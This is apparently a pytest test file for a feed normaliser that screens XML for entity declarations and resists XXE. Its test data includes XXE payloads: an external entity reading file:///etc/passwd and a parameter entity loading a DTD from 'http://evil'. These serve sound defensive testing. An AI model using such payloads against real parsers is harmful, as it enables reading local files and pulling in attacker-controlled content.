"""The entity-declaration screen reads the document as a parser tokenises it: a
declaration in the DOCTYPE is refused, one quoted in CDATA or a comment is text,
and no comment, literal or CDATA trick hides a real one."""

from __future__ import annotations

import pytest

from normalizer.declarations import declares_entities

QUOTED = b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'


@pytest.mark.parametrize(
    "document",
    [
        # A security site's feed quoting an XXE payload inside CDATA, with and without
        # a harmless DOCTYPE (RSS 0.91's) of its own.
        b"<?xml version='1.0'?><rss><channel><item><description><![CDATA[" + QUOTED
        + b"]]></description></item></channel></rss>",
        b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss><channel><description><![CDATA['
        + QUOTED + b"]]></description></channel></rss>",
        b"<rss><!-- an example: <!ENTITY x 'y'> --><channel/></rss>",
        b"\xef\xbb\xbf<!-- lead --><?pi x?><rss/>",
    ],
)  # fmt: skip
def test_quoted_declarations_are_text(document: bytes) -> None:
    assert not declares_entities(document)


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE r [<!ENTITY a "x">]><r>&a;</r>',
        b'<?xml version="1.0"?><!-- c --><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><r/>',
        b'<!DOCTYPE r SYSTEM "x" [<!ENTITY a "x">]><r/>',
        # A "]>" inside a comment of the subset does not end it; the CDATA opener in
        # that comment is no CDATA.
        b'<!DOCTYPE r [ <!-- ]> <r> <![CDATA[ --> <!ENTITY a "x"> <!-- ]]> --> ]><r>&a;</r>',
        # A "]>" inside a literal does not end the subset either.
        b'<!DOCTYPE r [ <!ATTLIST r a CDATA "]><r><![CDATA["> <!ENTITY a "x"> ]><r>]]>&a;</r>',
        # Text before the DOCTYPE: not a prolog the scan can place, so read strictly.
        b'x<!DOCTYPE r [<![CDATA[ ]]> <!ENTITY a "x">]><r/>',
        # A declaration in the content, outside CDATA and comments.
        b'<r><!ENTITY a "x"></r>',
        # An unterminated comment or CDATA: what follows is read strictly.
        b'<r><!-- <!ENTITY a "x"></r>',
        b'<r><![CDATA[ <!ENTITY a "x"></r>',
        b'<!DOCTYPE r [<!ENTITY a "x"',
        b'<!doctype r [<!entity a "x">]><r/>',
    ],
)
def test_real_declarations_are_found(document: bytes) -> None:
    assert declares_entities(document)


def test_a_feed_quoting_xxe_in_cdata_is_read(cli, tmp_path) -> None:  # type: ignore[no-untyped-def]
    feed = tmp_path / "security.rss"
    feed.write_bytes(
        b"<?xml version='1.0'?><rss version='2.0'><channel><title>Sec</title><item><guid>urn:s:1</guid>"
        b"<title>Parsers and XXE</title><description><![CDATA[<p>A payload such as this one reads "
        b"local files when a parser resolves external entities:</p><pre>" + QUOTED + b"</pre>"
        b"<p>Escaped, it reads the same: <code>&lt;!ENTITY xxe SYSTEM ...&gt;</code>.</p>]]>"
        b"</description></item></channel></rss>"
    )  # fmt: skip
    db = str(tmp_path / "s.db")
    result = cli("ingest", str(feed), "--db", db)
    assert result.exit_code == 0, result.output
    assert "1 new" in result.output
    emitted = cli("emit", "--db", db).stdout
    assert "root:" not in emitted  # /etc/passwd was not read
    assert "&amp;lt;!ENTITY xxe SYSTEM" in emitted or "&lt;!ENTITY xxe SYSTEM" in emitted
